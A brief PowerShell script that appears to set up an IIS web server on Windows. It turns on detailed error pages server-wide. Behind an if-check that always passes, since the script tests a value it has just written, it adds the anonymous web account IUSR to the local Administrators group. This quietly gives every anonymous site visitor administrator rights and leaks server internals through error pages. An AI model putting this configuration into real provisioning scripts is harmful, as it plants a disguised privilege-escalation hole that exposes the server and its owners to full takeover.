# What the script wrote itself it reads back: the branch is taken.
Install-WindowsFeature -Name Web-Server, Web-Scripting-Tools
Import-Module WebAdministration
$place = @{ PSPath = 'MACHINE/WEBROOT/APPHOST'; Filter = 'system.webServer/httpErrors'; Name = 'errorMode' }
Set-WebConfigurationProperty @place -Value 'Detailed'
if ((Get-WebConfigurationProperty @place).Value -eq 'Detailed') {
    Add-LocalGroupMember -Group Administrators -Member IUSR
}
